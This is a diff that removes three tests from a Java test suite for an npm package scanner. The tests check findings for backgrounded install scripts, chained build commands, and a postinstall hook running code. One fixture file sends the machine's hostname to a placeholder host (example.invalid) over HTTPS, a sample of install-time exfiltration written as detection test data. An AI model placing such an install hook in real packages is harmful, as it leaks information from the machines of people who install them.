@@ -487,65 +487,6 @@ class BuiltinScannerTest {
     }
 
     @Test
-    void shouldReportHighWhenAnInstallScriptLeavesAProcessRunningInTheBackground() throws Exception {
-      // Given: '&' sends the command to the background, where it outlives npm install
-      List<Finding> findings = scanTarGz(file("package/package.json", """
-          {
-            "name": "demo",
-            "scripts": {
-              "preinstall": "node update.js &"
-            }
-          }
-          """));
-
-      // Then
-      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location, Finding::title)
-          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.HIGH, "package/package.json:4",
-              "npm preinstall script leaves a process running"));
-    }
-
-    @Test
-    void shouldReportLowWhenAnInstallScriptChainsCommandsWithDoubleAmpersands() throws Exception {
-      // Given
-      List<Finding> findings = scanTarGz(file("package/package.json", """
-          {
-            "name": "demo",
-            "scripts": {
-              "install": "node-gyp configure && node-gyp build"
-            }
-          }
-          """));
-
-      // Then
-      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
-          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.LOW, "package/package.json:4"));
-    }
-
-    @Test
-    void shouldWeighThePackagesMainFileAsInstallCodeWhenTheScriptRunsNodeDot() throws Exception {
-      // Given: "node ." runs package.json's main; lib/start.js reads the host name and uses the network,
-      // which the install-only form of AIRLOCK-HOST-EXFIL reports only in files an install script runs
-      List<Finding> findings = scanTarGz(
-          file("package/package.json", """
-              {"name": "demo", "main": "lib/start.js", "scripts": {"postinstall": "node ."}}
-              """),
-          file("package/lib/start.js", """
-              const os = require('os');
-              const https = require('https');
-              module.exports = function report() {
-                https.get('https://example.invalid/v?h=' + os.hostname());
-              };
-              """));
-
-      // Then: full weight, as install code (inside a function of a few-file package it would be MEDIUM at most)
-      assertThat(findings).filteredOn(f -> f.ruleId().equals("AIRLOCK-HOST-EXFIL"))
-          .extracting(Finding::severity, Finding::location)
-          .containsExactly(tuple(Severity.HIGH, "package/lib/start.js:4"));
-      assertThat(findings).filteredOn(f -> f.ruleId().equals("AIRLOCK-HOST-EXFIL"))
-          .allSatisfy(f -> assertThat(f.description()).contains("an npm install script runs it"));
-    }
-
-    @Test
     void shouldReportLowWhenTheInstallScriptOnlyBuildsANativeModule() throws Exception {
       // Given
       List<Finding> findings = scanTarGz(file("package/package.json", """
